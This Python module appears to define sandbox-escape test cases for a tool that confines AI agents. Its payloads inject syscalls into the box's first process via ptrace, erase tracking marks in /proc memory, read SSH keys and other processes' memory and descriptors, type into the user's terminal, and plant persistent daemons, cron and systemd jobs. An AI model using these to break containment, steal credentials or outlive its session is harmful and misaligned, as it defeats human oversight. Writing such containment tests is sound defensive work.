"""Processes outside, and processes that stay."""

from __future__ import annotations

from proof.escapes.case import Escape, Network

from untildone.system.box import scoping

FAMILY = "processes"

_KNOWN = "" if scoping.is_possible() else "before Linux 6.12, nothing but Yama keeps processes of a box apart"

_ALL_PIDS = 'victims = {VICTIM, *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid()}\n'

_TAKES_OVER = """
import platform
NAMES = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"
ATTACH, DETACH, STEP, GET, SET, ALL_CHILDREN = 16, 17, 9, 12, 13, 0x40000000
class Registers(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in NAMES.split()]
LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
def inject(number, *arguments):
    before, now = Registers(), Registers()
    LIBC.ptrace(GET, 1, None, ctypes.byref(before))
    ctypes.memmove(ctypes.byref(now), ctypes.byref(before), ctypes.sizeof(now))
    now.rax, now.orig_rax, now.rip = number, 2**64 - 1, before.rip - 2
    now.rdi, now.rsi = arguments
    LIBC.ptrace(SET, 1, None, ctypes.byref(now))
    LIBC.ptrace(STEP, 1, None, None)
    os.waitpid(1, ALL_CHILDREN)
    LIBC.ptrace(SET, 1, None, ctypes.byref(before))
if platform.machine() == "x86_64" and LIBC.ptrace(ATTACH, 1, None, None) == 0:
    got("the first process of the box")
    os.waitpid(1, ALL_CHILDREN)
    # The order to end with the parent; a session of its own.
    inject(157, 1, 0)
    inject(112, 0, 0)
    LIBC.ptrace(DETACH, 1, None, None)
if opens("/proc/1/mem", os.O_RDWR):
    got("the memory of the first process of the box")
    stack = next(line for line in open("/proc/1/maps") if "[stack]" in line)
    start, end = (int(part, 16) for part in stack.split()[0].split("-"))
    with open("/proc/1/mem", "r+b", 0) as memory:
        memory.seek(start)
        content = memory.read(end - start)
        at = content.find(b"UNTILDONE_MARK_")
        while at >= 0:
            memory.seek(start + at)
            memory.write(b"X" * 15)
            at = content.find(b"UNTILDONE_MARK_", at + 1)
daemonize()
"""

ESCAPES = (
    Escape("takes over the first process of the box, which ends with the runner", _TAKES_OVER, known=_KNOWN),
    Escape("the same without a network", _TAKES_OVER, network=Network.NONE, known=_KNOWN),
    Escape("the same with the network of the machine", _TAKES_OVER, network=Network.ALL, known=_KNOWN),
    Escape(
        "sees processes outside",
        'if "time.sleep(3600)" in run("cat /proc/[0-9]*/cmdline"):\n    got("a process outside")',
    ),
    Escape("sends a signal to a process outside", "with contextlib.suppress(OSError):\n    os.kill(VICTIM, 9)"),
    Escape(
        "sends a signal to everybody",
        "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwith contextlib.suppress(OSError):\n    os.kill(-1, signal.SIGTERM)",
    ),
    Escape(
        "sends a signal to the runner by the group and the parents",
        "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "for pid in {os.getppid(), os.getsid(0), os.getpgid(0)} - {0, 1, os.getpid()}:\n"
        "    with contextlib.suppress(OSError):\n        os.kill(pid, signal.SIGTERM)",
    ),
    Escape(
        "traces a process outside",
        'if syscall({"x86_64": 101, "aarch64": 117}[os.uname().machine], 16, VICTIM, None, None) == 0:\n    got("traces a process outside")',
    ),
    Escape(
        "reads the memory of a process outside",
        _ALL_PIDS + 'show(f"/proc/{VICTIM}/environ")\nshow(f"/proc/{VICTIM}/maps")\n'
        'if opens(f"/proc/{VICTIM}/mem", os.O_RDWR):\n    got("memory outside")',
    ),
    Escape("environments of all processes", _ALL_PIDS + 'for pid in victims:\n    show(f"/proc/{pid}/environ")'),
    Escape(
        "files through the descriptors and folders of other processes",
        _ALL_PIDS
        + """
for pid in sorted(victims):
    for name in ("root", "cwd"):
        show(f"/proc/{pid}/{name}{HOME}/.ssh/id_ed25519")
    with contextlib.suppress(OSError):
        for number in os.listdir(f"/proc/{pid}/fd"):
            target = os.readlink(f"/proc/{pid}/fd/{number}")
            if target.startswith((HOME, OUTSIDE, "/dev/shm")):
                got(target)
            if os.path.isdir(f"/proc/{pid}/fd/{number}"):
                show(f"/proc/{pid}/fd/{number}{HOME}/.ssh/id_ed25519")
""",
    ),
    Escape(
        "descriptors that it inherited",
        """
for number in os.listdir("/proc/self/fd"):
    with contextlib.suppress(OSError):
        target = os.readlink(f"/proc/self/fd/{number}")
        if int(number) > 2 and not target.startswith(("/proc/", "pipe:", "anon_inode")) and WORKSPACE not in target:
            got(f"descriptor {number}: {target}")
""",
    ),
    Escape(
        "descriptors that the person's shell left open, under wrap",
        """
say("wrap" if "UNTILDONE_HOOK_SOCKET" in os.environ else "run")
for number in filter(lambda name: int(name) > 2, os.listdir("/proc/self/fd")):
    with contextlib.suppress(OSError):
        os.path.isdir(f"/proc/self/fd/{number}") or show(f"/proc/self/fd/{number}")
        with open(f".{HOME}/.ssh/id_ed25519", opener=lambda path, flags: os.open(path, flags, dir_fd=int(number))) as file:
            say(file.read())
""",
        agent="claude",
        flags=("--promise", "NEVER"),
        before="echo Be strict. > SUPERVISOR.md",
        then=(
            'exec 7<"$HOME/.ssh/id_ed25519" 8</ 9>>../../../outside/file; script -qec "$UNTILDONE wrap claude" /dev/null </dev/null',
            "grep -q 'wrap' said.txt || echo 'GOT no try under wrap' >> said.txt",
        ),
        needs=("script",),
    ),
    Escape(
        "memory and descriptors of other processes by calls of their own",
        """
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
READ, WRITE, OPEN, GET = {"x86_64": (310, 311, 434, 438), "aarch64": (270, 271, 434, 438)}[os.uname().machine]
place = ctypes.create_string_buffer(8)
part = Part(ctypes.addressof(place), 8)
for pid in (VICTIM, os.getppid() if os.getppid() > 1 else VICTIM):
    for name, call in (("reads", READ), ("writes", WRITE)):
        one, none = ctypes.c_ulong(1), ctypes.c_ulong(0)
        moved = syscall(call, pid, ctypes.byref(part), one, ctypes.byref(Part(0x400000, 8)), one, none)
        if pid == VICTIM and moved not in (-3, -1):
            got(f"{name} memory outside: {moved}")
    handle = syscall(OPEN, pid, 0)
    for number in range(64) if handle >= 0 else ():
        kept = syscall(GET, handle, number, 0)
        if kept >= 0 and os.readlink(f"/proc/self/fd/{kept}").startswith((HOME, OUTSIDE, "/dev/shm")):
            got(f"a descriptor of {pid}")
""",
    ),
    Escape(
        "runs a program that lies in memory only",
        """
memory = os.memfd_create("program")
with open("/bin/sh", "rb") as program:
    os.write(memory, program.read())
done_by = subprocess.run(["/proc/self/fd/%d" % memory, "-c", f"cat {HOME}/.ssh/id_ed25519; (setsid sleep 300; : {MARK}) &"],
                         pass_fds=[memory], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=400, close_fds=True) if os.fork() == 0 else None
if done_by:
    say(done_by.stdout)
    os._exit(0)
time.sleep(1)
""",
    ),
    Escape(
        "prints to the terminal of the person and changes it",
        """
import fcntl
for name in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0", "/dev/ptmx"):
    for request in (0x541C, 0x5412, 0x540E, 0x541D):
        with contextlib.suppress(OSError):
            descriptor = os.open(name, os.O_RDWR | os.O_NOCTTY)
            if name != "/dev/ptmx" and fcntl.ioctl(descriptor, request, b"\\x03" + bytes(15)) is not None:
                got(f"request {request:#x} on {name}")
""",
        at_terminal=True,
    ),
    Escape(
        "namespaces of other processes",
        _ALL_PIDS
        + """
kinds = {"mnt": 0x20000, "net": 0x40000000, "pid": 0x20000000, "user": 0x10000000}
for pid in victims:
    for kind, flag in kinds.items():
        with contextlib.suppress(OSError):
            descriptor = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            if LIBC.setns(descriptor, flag) == 0:
                show(f"{HOME}/.ssh/id_ed25519")
""",
    ),
    Escape(
        "limits of a process outside",
        'import resource\nwith contextlib.suppress(OSError):\n    resource.prlimit(VICTIM, resource.RLIMIT_NOFILE)\n    got("limits of a process outside")',
    ),
    Escape(
        "daemon: a child that stays",
        'run(f"(sleep 300; : {MARK}) >/dev/null 2>&1 &")\nsubprocess.Popen(["sh", "-c", f"sleep 300; : {MARK}"])',
    ),
    Escape(
        "daemon: session and environment left",
        'subprocess.Popen(["setsid", "env", "-i", "sh", "-c", f"sleep 300; : {MARK}"], env={})',
    ),
    Escape("daemon: parents, session, environment and descriptors left", "daemonize()"),
    Escape(
        "daemon: in namespaces of its own",
        "run(f\"setsid unshare -Urpf --kill-child=0 sh -c 'sleep 300; : {MARK}' >/dev/null 2>&1 &\")\ntime.sleep(0.5)",
    ),
    Escape(
        "daemon: many that start each other",
        "run(f\"for i in 1 2 3 4 5 6 7 8; do setsid sh -c 'while :; do setsid sleep 5; : {MARK}; done' >/dev/null 2>&1 & done\")",
    ),
    Escape(
        "daemon: after its start it is killed with everything",
        "import signal\nif os.fork() == 0:\n    daemonize()\ntime.sleep(1)",
    ),
    Escape(
        "services that start programs later",
        "run(f\"echo touch {OUTSIDE}/escaped | at now; echo '* * * * * touch {OUTSIDE}/escaped' | crontab -\")\n"
        'run(f"systemd-run --user touch {OUTSIDE}/escaped; systemd-run touch {OUTSIDE}/escaped")',
    ),
    Escape(
        "types into the terminal of the person",
        """
import fcntl, termios
for name in ("/dev/tty", "/dev/pts/0", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"):
    with contextlib.suppress(OSError):
        descriptor = os.open(name, os.O_RDWR | os.O_NOCTTY)
        for letter in b"\\n":
            fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([letter]))
        got(f"typed into {name}")
""",
        at_terminal=True,
    ),
    Escape(
        "leaves a core file outside",
        'import resource\nresource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)\nrun("cd /; kill -SEGV $$")',
    ),
)
